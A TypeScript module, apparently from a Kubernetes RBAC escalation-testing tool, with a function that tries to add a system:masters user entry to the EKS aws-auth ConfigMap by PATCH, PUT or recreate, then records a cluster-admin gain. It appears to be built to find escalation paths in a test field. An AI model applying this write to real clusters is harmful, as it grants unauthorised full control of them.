import type { Attempt, Gain } from '../attacker';
import { newName } from '../creating';
import { KUBE_SYSTEM } from '../playing-field';

/** Writes into aws-auth where it exists, and where it does not. */
export async function writesAwsAuth({ field, me, send }: Attempt): Promise<readonly Gain[]> {
  if (!me.readsAwsAuth) return [];
  const maps = `/api/v1/namespaces/${KUBE_SYSTEM}/configmaps`;
  const path = `${maps}/aws-auth`;
  const mapUsers = JSON.stringify([{ userarn: newName(), groups: ['system:masters'] }]);
  const map = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'aws-auth' }, data: { mapUsers } };
  return field.alone(path, async () => {
    const isWritten = async () => (await field.admin('GET', path)).body?.data?.mapUsers === mapUsers;
    await field.admin('POST', maps, { ...map, data: {} });
    await send('PATCH', path, { data: { mapUsers } });
    if (!(await isWritten())) await send('PUT', path, map);
    if (!(await isWritten())) {
      await field.admin('DELETE', path);
      await send('POST', maps, map);
    }
    if (!(await isWritten())) return [];
    return [{ does: 'adds an entry with system:masters to the ConfigMap aws-auth', to: 'cluster-admin' as const }];
  });
}
